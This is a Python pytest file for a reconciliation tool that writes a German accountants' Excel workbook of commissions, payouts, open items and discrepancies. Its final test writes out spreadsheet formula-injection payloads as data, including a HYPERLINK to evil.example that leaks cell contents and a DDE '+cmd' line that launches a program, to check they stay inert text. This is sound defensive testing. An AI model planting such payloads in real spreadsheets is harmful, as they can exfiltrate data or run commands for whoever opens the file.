"""The accountants' workbook, opened with openpyxl: sheets, headers, cell types, formats, and totals that
equal the engine's to the cent."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.utils import column_index_from_string
from openpyxl.worksheet.worksheet import Worksheet

from recon import views
from recon.engine import ReconResult, reconcile
from recon.importing import import_paths
from recon.period import Period, parse_period
from recon.reports.content import collect
from recon.reports.workbook import SHEETS, render_workbook, write_workbook
from recon.simulate.quarter import simulate
from recon.simulate.write import write_quarter
from recon.store import Database, open_database
from tests.conftest import INVOICE_HEADER, SAMPLES

CENT = Decimal("0.01")
EUR = "#,##0.00 €"


@dataclass
class Built:
    db: Database
    result: ReconResult
    path: Path
    as_of: date


@pytest.fixture(scope="module")
def quarter_workbook(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """A simulated quarter with every kind of injected fault, reconciled and written once for this module."""
    folder = tmp_path_factory.mktemp("quarter")
    quarter = simulate(orders=300, seed=7)
    write_quarter(quarter, folder / "data")
    db = open_database(folder / "recon.duckdb")
    assert import_paths(db, [folder / "data"]).exit_code == 0
    path = write_workbook(db, folder / "report.xlsx", as_of=quarter.as_of)
    result = reconcile(db, as_of=quarter.as_of)
    yield Built(db, result, path, quarter.as_of)
    db.close()


def money(value: Any) -> Decimal:
    """A number cell's value as the Decimal it was written from (openpyxl reads it back as a float)."""
    assert isinstance(value, (int, float)) and not isinstance(value, bool), value
    return Decimal(repr(value)).quantize(CENT)


def table(ws: Worksheet) -> tuple[list[str], list[tuple[Cell, ...]]]:
    """Header and data rows (up to the first empty row) of a list sheet."""
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    data = []
    for row in rows[1:]:
        if all(c.value is None for c in row):
            break
        data.append(row)
    return header, data  # type: ignore[return-value]


SUBTOTAL = re.compile(r"^=SUBTOTAL\(109,([A-Z]+)2:\1(\d+)\)$")


def subtotal(ws: Worksheet, formula: str, hidden: frozenset[int] = frozenset()) -> float:
    """What Excel / LibreOffice compute for `=SUBTOTAL(109,H2:H120)`: the sum of the column's number cells in
    that range, leaving out rows a filter hides (`hidden`, 1-based row numbers). No spreadsheet program is
    needed to check the formula, and the test reads exactly the cells the formula names."""
    m = SUBTOTAL.match(formula)
    assert m, formula
    column, last = column_index_from_string(m[1]), int(m[2])
    values = (ws.cell(r, column).value for r in range(2, last + 1) if r not in hidden)
    return float(sum((money(v) for v in values if v is not None), Decimal("0.00")))


def summe(ws: Worksheet) -> dict[str, Any]:
    """The "Summe" row of a list sheet, by header (SUBTOTAL formulas evaluated over the sheet's cells)."""
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    for row in ws.iter_rows(values_only=True):
        if isinstance(row[0], str) and row[0].startswith("Summe"):
            values = [subtotal(ws, v) if isinstance(v, str) and v.startswith("=") else v for v in row]
            return dict(zip(header, values, strict=False))
    raise AssertionError(f"no Summe row in {ws.title}")


def overview_rows(ws: Worksheet) -> dict[str, tuple[Any, ...]]:
    return {row[0]: row for row in ws.iter_rows(values_only=True) if isinstance(row[0], str)}


def test_sheets_headers_frozen_rows_and_filters(quarter_workbook: Built) -> None:
    wb = load_workbook(quarter_workbook.path)
    assert wb.sheetnames == list(SHEETS) == [
        "Übersicht", "Abweichungen", "Provisionen", "Auszahlungen", "Auszahlungszeilen", "Offene Posten", "Belege",
        "Kontoauszug", "Quellen"]
    expected_headers = {
        "Abweichungen": ["Art", "Auftragsnummer", "Positions-ID", "Belegnummer", "Belegdatum", "Erwartet",
                         "Tatsächlich", "Differenz", "Zugunsten von", "zu Lasten des Verkäufers",
                         "zugunsten des Verkäufers", "Nachweis (Datei:Zeile)", "Meldung"],
        "Provisionen": ["Kategorie", "Monat", "Provisionszeilen", "Verkaufte Artikel", "Umsatz brutto",
                        "Provision netto berechnet", "Provision netto erwartet", "Provision brutto berechnet",
                        "Provision brutto erwartet", "Differenz brutto"],
        "Auszahlungen": ["Auszahlungsnummer", "Auszahlungsdatum", "Auszahlungsbetrag", "Summe der Zeilen",
                         "Differenz", "Zeilen", "davon abweichend", "Stimmt", "Datei"],
        "Auszahlungszeilen": ["Auszahlungsnummer", "Auszahlungsdatum", "Belegart", "Belegnummer", "Belegdatum",
                              "Fällig am", "Auftragsnummer", "Betrag", "Betrag laut Beleg", "Status",
                              "Nachweis (Datei:Zeile)"],
        "Offene Posten": ["Belegart", "Belegnummer", "Belegdatum", "Fällig am", "Auszahlungstag", "Auftragsnummer",
                          "Betrag", "Überfällig"],
        "Belege": ["Belegart", "Belegnummer", "Belegdatum", "Fällig am", "Netto", "USt (Vorsteuer)", "Brutto",
                   "Positionen", "Ausgeglichen am", "Ausgeglichen durch"],
        "Kontoauszug": ["Konto", "Buchungsdatum", "Transaktions-ID", "Transaktionsart", "Auftragsnummer",
                        "Belegnummer", "Betrag", "Saldo", "Saldo berechnet", "Differenz Saldo", "Zugeordneter Beleg",
                        "Zuordnung", "Abweichungen", "Nachweis (Datei:Zeile)"],
        "Quellen": ["Datei", "Art", "Kodierung", "Zeilen", "Summe", "Importiert am", "Importiert von", "SHA-256"],
    }
    for title, header in expected_headers.items():
        ws = wb[title]
        head, data = table(ws)
        assert head == header, title
        assert ws.freeze_panes == "A2", title
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{len(data) + 1}", title
        assert all(ws.column_dimensions[c.column_letter].width >= 9 for c in ws[1]), title
    assert wb["Übersicht"].freeze_panes == "A2"


def test_overview_totals_and_findings_by_kind_equal_the_engine_to_the_cent(quarter_workbook: Built) -> None:
    result, totals = quarter_workbook.result, quarter_workbook.result.totals
    ws = load_workbook(quarter_workbook.path)["Übersicht"]
    rows = overview_rows(ws)
    assert rows["Stichtag (Fälligkeiten und Auszahlungen bis)"][1] == datetime.combine(quarter_workbook.as_of,
                                                                                      datetime.min.time())
    pairs = {
        "Umsätze (Kaufbelege)": ("sales_gross", None),
        "Erstattungen an Kunden": ("refunds_gross", None),
        "Verkaufsprovision": ("invoiced_commission_gross", "expected_commission_gross"),
        "Versandkostenprovision": ("invoiced_shipping_commission_gross", "expected_shipping_commission_gross"),
        "Grundgebühren": ("invoiced_base_fee_gross", "expected_base_fee_gross"),
        "Provisionskorrekturen (Gutschriften)": ("corrections_gross", "expected_corrections_gross"),
        "Auszahlungen": ("payouts_total", None),
        "Netto an den Verkäufer": ("invoiced_net_to_seller", "expected_net_to_seller"),
    }
    for label, (actual_key, expected_key) in pairs.items():
        row = rows[label]
        assert money(row[1]) == totals[actual_key], label
        if expected_key:
            assert money(row[2]) == totals[expected_key], label
            assert money(row[3]) == totals[actual_key] - totals[expected_key], label  # type: ignore[operator]
    kinds = result.by_kind()
    assert len(kinds) >= 12
    for s in kinds:
        row = rows[s.kind]
        assert (row[1], money(row[2]), money(row[3]), row[4]) == (s.count, s.against_seller, s.for_seller,
                                                                  s.unquantified)
    total_row = [r for r in ws.iter_rows(values_only=True) if r[0] == "Summe"][0]
    assert (total_row[1], money(total_row[2]), money(total_row[3])) == (
        len(result.discrepancies), result.against_seller, result.for_seller)
    # number formats on the money cells of the summary
    for row in ws.iter_rows():
        if row[0].value in pairs:
            assert row[1].number_format == EUR and row[1].data_type == "n"


def test_next_payout_in_the_overview_is_the_open_items_due_by_then(quarter_workbook: Built) -> None:
    db, as_of = quarter_workbook.db, quarter_workbook.as_of
    views.prepared(db, as_of)
    open_items = views.open_items(db)
    day = open_items.filter(pl.col("settlement_day") > as_of)["settlement_day"].min()
    items = open_items.filter(pl.col("settlement_day") <= day)
    expected = sum((Decimal(v) for v in items["amount"].to_list()), Decimal("0.00"))
    row = overview_rows(load_workbook(quarter_workbook.path)["Übersicht"])["nächster Auszahlungstag"]
    assert (row[1].date(), money(row[2]), row[3]) == (day, expected, items.height)
    assert day.isoweekday() == 4 and day > as_of


def test_every_finding_is_a_row_with_all_contract_fields(quarter_workbook: Built) -> None:
    result = quarter_workbook.result
    ws = load_workbook(quarter_workbook.path)["Abweichungen"]
    _, rows = table(ws)
    assert len(rows) == len(result.discrepancies) >= 15
    for cells, d in zip(rows, result.discrepancies, strict=True):
        values = [c.value for c in cells]
        assert values[0:4] == [d.kind, d.order_number, d.position_item_id, d.document_number]
        assert (values[4].date() if values[4] else None) == d.document_date
        for cell, value in ((cells[5], d.expected), (cells[6], d.actual)):
            if isinstance(value, Decimal):
                assert money(cell.value) == value and cell.number_format == EUR
            elif isinstance(value, date):
                assert cell.is_date and cell.value.date() == value and cell.number_format == "DD.MM.YYYY"
            else:
                assert cell.value is None
        assert (money(values[7]) if values[7] is not None else None) == d.difference
        assert values[8] == {"OTTO": "OTTO", "seller": "Verkäufer", None: None}[d.in_favour_of]
        against = d.at_stake if d.in_favour_of == "OTTO" else None
        in_favour = d.at_stake if d.in_favour_of == "seller" else None
        assert (money(values[9]) if values[9] is not None else None) == against
        assert (money(values[10]) if values[10] is not None else None) == in_favour
        assert values[11] == ", ".join(f"{e.file}:{e.line}" for e in d.evidence)
        assert values[12] == d.message
        if d.document_date:
            assert cells[4].number_format == "DD.MM.YYYY"
    total = summe(ws)
    assert money(total["zu Lasten des Verkäufers"]) == result.against_seller
    assert money(total["zugunsten des Verkäufers"]) == result.for_seller
    # one example, exactly: the duplicate charge points at both invoice lines
    duplicate = next(r for r in rows if r[0].value == "DUPLICATE_CHARGE")
    assert duplicate[9].value is not None and duplicate[11].value.count(".csv:") == 2


def test_commission_by_category_and_month_sums_to_the_engine(quarter_workbook: Built) -> None:
    totals = quarter_workbook.result.totals
    ws = load_workbook(quarter_workbook.path)["Provisionen"]
    _, rows = table(ws)
    assert len(rows) > 20
    assert all(r[1].is_date and r[1].number_format == "MM.YYYY" and r[1].value.day == 1 for r in rows)
    assert all(r[4].number_format == EUR and r[4].data_type == "n" for r in rows)
    total = summe(ws)
    assert money(total["Provision brutto berechnet"]) == totals["invoiced_commission_gross"]
    assert money(total["Provision brutto erwartet"]) == totals["expected_commission_gross"]
    assert money(total["Provision netto berechnet"]) == totals["invoiced_commission_net"]
    assert money(total["Provision netto erwartet"]) == totals["expected_commission_net"]
    assert money(total["Differenz brutto"]) == (totals["invoiced_commission_gross"]  # type: ignore[operator]
                                                - totals["expected_commission_gross"])
    # rows add up to the same cents as the Summe row (no rounding anywhere)
    assert sum((money(r[7].value) for r in rows), Decimal("0.00")) == totals["invoiced_commission_gross"]


def test_payouts_tie_out_against_their_lines(quarter_workbook: Built) -> None:
    totals = quarter_workbook.result.totals
    wb = load_workbook(quarter_workbook.path)
    _, payouts = table(wb["Auszahlungen"])
    _, lines = table(wb["Auszahlungszeilen"])
    assert len(payouts) == totals["payouts_count"]
    assert money(summe(wb["Auszahlungen"])["Auszahlungsbetrag"]) == totals["payouts_total"]
    by_payout: dict[str, list[tuple[Cell, ...]]] = {}
    for line in lines:
        by_payout.setdefault(line[0].value, []).append(line)
    for p in payouts:
        number, total, line_sum, ties = p[0].value, money(p[2].value), money(p[3].value), p[7].value
        own = by_payout[number]
        assert sum((money(line[7].value) for line in own), Decimal("0.00")) == line_sum
        assert p[5].value == len(own)
        statuses = {line[9].value for line in own}
        assert ties == ("Ja" if total == line_sum and statuses == {"ok"} else "Nein"), number
    assert {p[7].value for p in payouts} == {"Ja", "Nein"}  # the injected payout faults show
    kinds = {d.kind for d in quarter_workbook.result.discrepancies}
    assert "SETTLEMENT_UNKNOWN" in kinds and any(line[9].value == "unbekannt" for line in lines)


def test_open_items_list_what_no_payout_settled(quarter_workbook: Built) -> None:
    wb = load_workbook(quarter_workbook.path)
    ws = wb["Offene Posten"]
    _, rows = table(ws)
    views.prepared(quarter_workbook.db, quarter_workbook.as_of)
    items = views.open_items(quarter_workbook.db)
    assert len(rows) == items.height
    assert money(summe(ws)["Betrag"]) == sum((Decimal(v) for v in items["amount"].to_list()), Decimal("0.00"))
    missing = [d.document_number for d in quarter_workbook.result.discrepancies if d.kind == "SETTLEMENT_MISSING"]
    listed = {r[1].value: r[7].value for r in rows}
    assert missing and all(listed[number] == "Ja" for number in missing)
    assert all(r[4].value.isoweekday() == 4 for r in rows)  # settlement day: a Thursday


def test_sources_sheet_names_every_file_with_time_and_hash(quarter_workbook: Built) -> None:
    ws = load_workbook(quarter_workbook.path)["Quellen"]
    _, rows = table(ws)
    stored = quarter_workbook.db.con.execute(
        "SELECT original_name, sha256, row_count FROM source_files ORDER BY imported_at, original_name").fetchall()
    assert [(r[0].value, r[7].value, r[3].value) for r in rows] == [tuple(s) for s in stored]
    assert all(r[5].is_date and r[5].number_format == "DD.MM.YYYY HH:MM" for r in rows)


def test_long_lists_are_capped_with_a_visible_note_and_a_full_sum(quarter_workbook: Built) -> None:
    result = quarter_workbook.result
    data = collect(quarter_workbook.db, Period("alles", None, None), quarter_workbook.as_of)
    path = render_workbook(data, quarter_workbook.path.with_name("capped.xlsx"), max_rows=5)
    wb = load_workbook(path)
    ws = wb["Abweichungen"]
    _, rows = table(ws)
    assert len(rows) == 5
    assert ws.auto_filter.ref == "A1:M6"
    values = [r[0] for r in ws.iter_rows(values_only=True)]
    total = len(result.discrepancies)
    assert f"Nur die ersten 5 von {total} Abweichungen sind aufgeführt ({total - 5} weitere)" in values[-2]
    assert values[-1] == "Die Summe umfasst alle Zeilen, auch die nicht aufgeführten; sie folgt dem Filter nicht."
    summe_row = next(r for r in ws.iter_rows(values_only=True) if r[0] == f"Summe (alle {total} Zeilen)")
    assert not any(isinstance(v, str) and v.startswith("=") for v in summe_row)  # a fixed total, said so
    assert money(summe(ws)["zu Lasten des Verkäufers"]) == result.against_seller
    assert money(summe(ws)["zugunsten des Verkäufers"]) == result.for_seller
    assert summe(ws)["Art"] == f"Summe (alle {total} Zeilen)"
    overview = [r[0] for r in wb["Übersicht"].iter_rows(values_only=True) if r[0]]
    assert any(str(text).startswith("Nur die ersten 5 von") for text in overview)
    assert len(table(wb["Auszahlungszeilen"])[1]) == 5


def test_samples_week_45_with_exact_values(db: Database, tmp_path: Path) -> None:
    assert import_paths(db, [SAMPLES]).exit_code == 0
    as_of = date(2026, 11, 24)
    path = write_workbook(db, tmp_path / "w45.xlsx", as_of=as_of, period=parse_period("2026-W45", as_of))
    wb = load_workbook(path)
    rows = overview_rows(wb["Übersicht"])
    assert rows["Zeitraum"][1:4] == (datetime(2026, 11, 2), datetime(2026, 11, 8), "2026-W45")
    assert [money(rows[k][1]) for k in ("Verkaufsprovision", "Versandkostenprovision", "Grundgebühren",
                                        "Provisionskorrekturen (Gutschriften)", "Auszahlungen")] == [
        Decimal("92.05"), Decimal("1.13"), Decimal("0.00"), Decimal("-60.48"), Decimal("0.00")]
    _, commission = table(wb["Provisionen"])
    assert sorted((r[0].value, r[1].value.date(), money(r[7].value)) for r in commission) == [
        ("Heimtextilien", date(2026, 11, 1), Decimal("8.91")),
        ("Möbel", date(2026, 11, 1), Decimal("22.66")),
        ("Schmuck", date(2026, 11, 1), Decimal("60.48")),
    ]
    # open as of 24.11.: only the correction PK-2026-000007 (due 20.11., settled on Thursday 26.11.)
    _, open_items = table(wb["Offene Posten"])
    assert [(r[1].value, money(r[6].value), r[4].value.date(), r[7].value) for r in open_items] == [
        ("PK-2026-000007", Decimal("60.48"), date(2026, 11, 26), "Nein")]
    assert rows["nächster Auszahlungstag"][1:4] == (datetime(2026, 11, 26), 60.48, 1)
    assert rows["Keine Abweichungen im Zeitraum."]
    # the tie-out, net: 19.04 + 7.49 + 50.82 invoiced and expected, nothing unexplained
    assert rows["Abstimmung der Summen"][1:5] == ("laut Belegen", "erwartet", "durch Abweichungen erklärt",
                                                  "unerklärt")
    assert [money(v) for v in rows["Verkaufsprovision (netto)"][1:5]] == [
        Decimal("77.35"), Decimal("77.35"), Decimal("0.00"), Decimal("0.00")]
    assert [money(v) for v in rows["Korrekturen (netto)"][1:5]] == [
        Decimal("-50.82"), Decimal("-50.82"), Decimal("0.00"), Decimal("0.00")]
    assert rows["Jeder Cent Differenz ist durch eine Abweichung erklärt."]
    # the fee table in force in the week, the ring's tier schedule spelled out and marked as only reported
    fees = [r for r in wb["Übersicht"].iter_rows(values_only=True) if r[0] == "commission"]
    schmuck = next(r for r in fees if r[1] == "Schmuck")
    assert schmuck[2:5] == ("Staffel: bis 100,00 €: 22 % · 100,00–200,00 €: 20 % · über 200,00 €: 18 %",
                            datetime(2024, 10, 1), "offen")
    assert schmuck[5].startswith("gemeldet: OnlinehändlerNews 2024-08-14")
    base = next(r for r in wb["Übersicht"].iter_rows(values_only=True) if r[0] == "base_fee")
    assert base[2:5] == ("99,90 € netto", datetime(2024, 8, 1), "offen")


def test_text_from_imported_files_never_becomes_a_formula(db: Database, tmp_path: Path) -> None:
    """=HYPERLINK in a category, +cmd in an order number, @ in a file name: all shown as inert text."""
    evil_category = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'
    evil_order = "+cmd|' /C calc'!A0"
    csv_category = '"' + evil_category.replace('"', '""') + '"'
    rows = [
        f'PR-2026-000100;04.11.2026;18.11.2026;28.10.2026;03.11.2026;Verkaufsprovision;"{evil_order}";POS-EVIL-1;'
        f"29.10.2026 10:15:00;SKU-1;{csv_category};119,00;15,00;17,85;19,00;3,39;21,24;EUR",
        "PR-2026-000100;04.11.2026;18.11.2026;28.10.2026;03.11.2026;Verkaufsprovision;-2+3;@POS-EVIL-2;"
        "29.10.2026 10:15:00;SKU-2;Möbel;119,00;15,00;17,85;19,00;3,39;21,24;EUR",
    ]
    folder = tmp_path / "evil"
    folder.mkdir()
    (folder / "@SUM(1+1).csv").write_bytes(("\r\n".join([INVOICE_HEADER, *rows]) + "\r\n").encode("cp1252"))
    assert import_paths(db, [SAMPLES, folder]).exit_code == 0
    path = write_workbook(db, tmp_path / "evil.xlsx", as_of=date(2026, 11, 24))

    wb = load_workbook(path)
    seen: dict[str, Cell] = {}
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":  # the only formulas: our own sums of a table column, in its Summe row
                    assert SUBTOTAL.match(c.value) and str(row[0].value).startswith("Summe"), (ws.title, c.value)
                elif isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
                    seen[c.value] = c
    assert seen[evil_category].parent.title == "Provisionen"
    assert seen[evil_order].parent.title == "Abweichungen"
    assert {"-2+3", "@POS-EVIL-2", "@SUM(1+1).csv", "@SUM(1+1).csv:2"} <= set(seen)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        formulas = [f.decode() for n in sheets for f in re.findall(rb"<f[^>]*>([^<]*)</f>", z.read(n))]
        assert sheets and formulas and all(SUBTOTAL.match("=" + f) for f in formulas), formulas
